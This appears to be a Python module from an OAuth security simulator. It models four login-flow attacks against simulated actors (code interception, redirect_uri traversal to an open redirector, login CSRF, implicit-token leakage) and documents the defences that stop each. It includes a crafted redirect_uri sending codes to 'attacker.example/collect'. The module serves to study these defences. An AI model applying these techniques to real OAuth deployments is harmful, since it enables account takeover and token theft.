"""Attacks on the login flow: four ways to get (or plant) what a redirect carries.

The authorization response travels through the front channel (the browser, the phone's
operating system: :mod:`simtoken.actors.frontchannel`), where the app's own defences are all
there is. From ``theft_at`` on, the attacker of ``flow_attack`` (the first user is the victim):

======================= ============================================================================
attack                  what it does, and what stops it
======================= ============================================================================
``code_interception``   a malicious app on the victim's phone registered the native app's URI scheme
                        too; the operating system hands it the next authorization response
                        (RFC 8252 §8.1; RFC 7636 §1). It redeems the code at once, as the victim's
                        app (a public client: its ``client_id`` is no secret), then passes the
                        response on to the real app so that the user notices nothing. Stopped by
                        PKCE: it has no code verifier (``pkce_missing``). Without PKCE it gets the
                        tokens, and the real app's redemption then finds the code used
                        (``code_reused``): the auth server revokes the thief's grant (RFC 6749
                        §4.1.2), which ends its refresh token but not the access token it already
                        holds. A web app (``app_kind=web``) cannot be intercepted this way: no other
                        app can register its https origin.
``redirect_uri``        sends the victim a link to the authorization endpoint for the victim's app
                        whose ``redirect_uri`` is the app's registered one followed by
                        ``/../out?to=https://attacker.example/collect``: it starts with the
                        registered URI, and a browser resolves it to the app's open redirector,
                        which forwards the code to the attacker (RFC 9700 §4.1.1, §4.11.1). With
                        ``prefix`` matching the victim's browser, riding its IdP session, brings
                        back a code for the victim's account, which the attacker redeems with that
                        same ``redirect_uri``. PKCE does not help here: the attacker wrote the
                        request, so it chose the challenge and holds the verifier. ``exact``
                        matching stops it: refused at the auth server, no code leaves.
``login_csrf``          runs an authorization for the victim's app as *itself* (its own account,
                        ``attacker``) and makes the victim's browser deliver the response to the
                        app's redirect URI (RFC 6749 §10.12, RFC 9700 §4.7). An app that checks
                        ``state`` drops it; one that uses PKCE holds no verifier for it and drops
                        it too; an app with neither redeems it and is signed in to the attacker's
                        account: its user's later calls run under the attacker's ``sub``
                        (metric ``calls_as_other_user``). The attacker steals nothing.
``implicit_leak``       reads the victim's browser history (a malicious extension, a shared
                        computer) for authorization responses: an implicit grant's access token
                        sits there in the URL's fragment (RFC 9700 §4.3.2, §2.1.2), and the
                        attacker uses it until it expires. A code-flow response leaves only a code,
                        already redeemed and bound to a verifier the history does not hold: the
                        replay is refused (``pkce_missing``, or ``code_expired`` after
                        ``code_lifetime``).
======================= ============================================================================

What it takes is ground truth: a ``stolen`` event (``token_type`` ``authorization_code`` or
``access``); an attack that gets nothing is a ``theft_failed`` event saying why. Tokens it gets
it uses as the ``attacker_strategy`` says (:class:`~simtoken.actors.attacker.Attacker`). Its own
one-time values (``state``, a code verifier) come from its own generator (``attacker/oauth``).
"""

from __future__ import annotations

import random
from collections.abc import Callable, Generator, Mapping
from typing import Any
from urllib.parse import urlencode

import simpy

from simtoken.actors.attacker import Attacker
from simtoken.actors.client import Client
from simtoken.actors.flows import token_response
from simtoken.actors.frontchannel import (
    ATTACKER_ORIGIN,
    FrontChannel,
    Receiver,
    redirect_uri,
    response_params,
)
from simtoken.actors.idp import Browser
from simtoken.actors.network import Network, Response
from simtoken.config.run import RunConfig
from simtoken.jose.dpop_client import Prover
from simtoken.jose.pkce import code_challenge, code_verifier, random_string
from simtoken.names import ATTACKER, TOKEN_URL
from simtoken.record.events import Event

__all__ = ["FlowAttacker"]


class FlowAttacker(Attacker):
    """An attacker on the login flow (see the module docstring); ``run()`` is its process."""

    def __init__(
        self,
        env: simpy.Environment,
        record: Callable[[Event], None],
        *,
        network: Network,
        victim: Client,
        auth_server: str,
        config: RunConfig,
        rng: random.Random,
        oauth_rng: random.Random,
        front: FrontChannel,
        prover: Prover | None = None,
    ) -> None:
        super().__init__(
            env,
            record,
            network=network,
            victim=victim,
            auth_server=auth_server,
            config=config,
            rng=rng,
            prover=prover,
        )
        self.front = front
        self.browser = Browser(f"{ATTACKER}/browser", ATTACKER)
        """The attacker's own browser (where it logs in to its own account)."""
        self.state = random_string(oauth_rng, 16)
        self.verifier = code_verifier(oauth_rng)
        self.caught = env.event()
        """Triggered with the location of the first response delivered to the attacker."""

    @property
    def victim_app(self) -> Receiver | None:
        """The victim's app (its side of the flow), where its responses belong."""
        return next(iter(self.front.apps.get(self.victim.user, [])), None)

    def run(self) -> Generator[simpy.Event, Any, None]:
        """From ``theft_at``: the attack ``flow_attack`` names, then the tokens' use."""
        yield self.env.timeout(self.config.theft_at)
        attack = {
            "code_interception": self._intercept,
            "redirect_uri": self._lure,
            "login_csrf": self._plant,
            "implicit_leak": self._read_history,
        }[self.config.flow_attack]
        yield from attack()
        if self.store.refresh_token is not None or self.store.access:
            yield from self._use()

    # -- as a receiver of authorization responses ------------------------------------------

    def check(self, location: str) -> str:
        """The attacker takes every response that reaches it."""
        return ""

    def take(self, location: str) -> None:
        """Keep the response (once): what it carries is stolen."""
        if self.caught.triggered:
            return
        params = response_params(location)
        if "access_token" in params:
            self._took(params["access_token"], "access")
        elif "code" in params:
            self._took(params["code"], "authorization_code")
        self.caught.succeed(location)

    # -- the four attacks ------------------------------------------------------------------

    def _intercept(self) -> Generator[simpy.Event, Any, None]:
        """``code_interception``: catch the next response as the app, redeem, pass it on."""
        if self.config.app_kind != "native":
            self._failed("a web app's https redirect URI cannot be registered by another app")
            return
        self.front.squatters[self.victim.user] = self
        location = yield self.caught
        del self.front.squatters[self.victim.user]  # once: then it lies low
        yield from self._redeem(location, redirect_uri(self.config.app_kind), verifier=None)
        self.front.deliver(self.name, location, self.victim_app)

    def _lure(self) -> Generator[simpy.Event, Any, None]:
        """``redirect_uri``: the victim follows a crafted link; the code comes to the attacker."""
        victim = self.victim
        crafted = f"{redirect_uri(self.config.app_kind)}/../out?" + urlencode(
            {"to": f"{ATTACKER_ORIGIN}/collect"}
        )
        params = self._request(victim.client_id, crafted, user=victim.user, challenge=True)
        if victim.browser.idp_session is not None:
            params["idp_session"] = victim.browser.idp_session
        answer = yield from self._send(victim.browser.name, "authorize", params)
        if not answer.ok:
            self._failed(f"the auth server refused the crafted link ({answer.reason}): no code")
            return
        victim.browser.idp_session = str(answer.body["idp_session"])
        self.front.attacker_site = self
        self.front.navigate(victim.browser, str(answer.body["location"]), None)
        if not self.caught.triggered:
            self._failed("the response did not reach the attacker")
            return
        yield from self._redeem(str(self.caught.value), crafted, verifier=self.verifier)

    def _plant(self) -> Generator[simpy.Event, Any, None]:
        """``login_csrf``: the attacker's own response, delivered to the victim's app."""
        require = self.config.policy.require_pkce
        params = self._request(
            self.victim.client_id,
            redirect_uri(self.config.app_kind),
            user=ATTACKER,
            challenge=require,
        )
        answer = yield from self._send(self.browser.name, "authorize", params)
        if not answer.ok:
            self._failed(f"the auth server refused the attacker's own login ({answer.reason})")
            return
        self.browser.idp_session = str(answer.body["idp_session"])
        refused = self.front.navigate(self.victim.browser, str(answer.body["location"]), None)
        if refused:
            self._failed(f"the victim's app dropped the planted response ({refused})")

    def _read_history(self) -> Generator[simpy.Event, Any, None]:
        """``implicit_leak``: the newest authorization response in the victim's history."""
        leaked = [
            loc
            for loc in self.victim.browser.history
            if {"access_token", "code"} & set(response_params(loc))
        ]
        if not leaked:
            self._failed("no authorization response in the browser history")
            return
        self.take(leaked[-1])
        location = leaked[-1]
        uri = location.partition("#")[0].partition("?")[0]
        yield from self._redeem(location, uri, verifier=None)

    # -- helpers ---------------------------------------------------------------------------

    def _request(self, client_id: str, uri: str, *, user: str, challenge: bool) -> dict[str, str]:
        """An authorization request for the victim's app, written by the attacker."""
        implicit = self.config.login_flow == "implicit"
        params = {
            "response_type": "token" if implicit else "code",
            "client_id": client_id,
            "redirect_uri": uri,
            "scope": self.victim.login_scope(),  # what the app asks for, refresh token included
            "audience": self.audience,
            "state": self.state,
            "user": user,
        }
        if challenge and not implicit:
            params["code_challenge"] = code_challenge(self.verifier, "S256")
            params["code_challenge_method"] = "S256"
        return params

    def _redeem(
        self, location: str, uri: str, verifier: str | None
    ) -> Generator[simpy.Event, Any, None]:
        """Turn a caught response into tokens: keep a fragment's, or redeem the code."""
        implicit = token_response(location)
        if implicit is not None:
            self.store.keep(self.audience, implicit.body, self.env.now)
            return
        params = {
            "grant_type": "authorization_code",
            "code": response_params(location).get("code", ""),
            "redirect_uri": uri,
            "client_id": self.victim.client_id,  # a public client's id is no secret
        }
        if verifier is not None:
            params["code_verifier"] = verifier
        proof, note = self._proof("POST", TOKEN_URL)
        response = yield from self._send(self.name, "token", params, proof, note)
        if response.ok:
            self.store.keep(self.audience, response.body, self.env.now)
        else:
            self._failed(f"the auth server refused the code ({response.reason})")

    def _send(
        self,
        sender: str,
        endpoint: str,
        params: Mapping[str, str],
        proof: str | None = None,
        note: str = "",
    ) -> Generator[simpy.Event, Any, Response]:
        """A request to the auth server, sent again while it is lost."""
        while True:
            response = yield from self.network.request(
                sender, self.auth_server, endpoint, None, params, note, proof
            )
            if response is not None:
                return response

    @property
    def vector(self) -> str:
        """How this attacker steals: the run's ``flow_attack`` (the events name it)."""
        return self.config.flow_attack
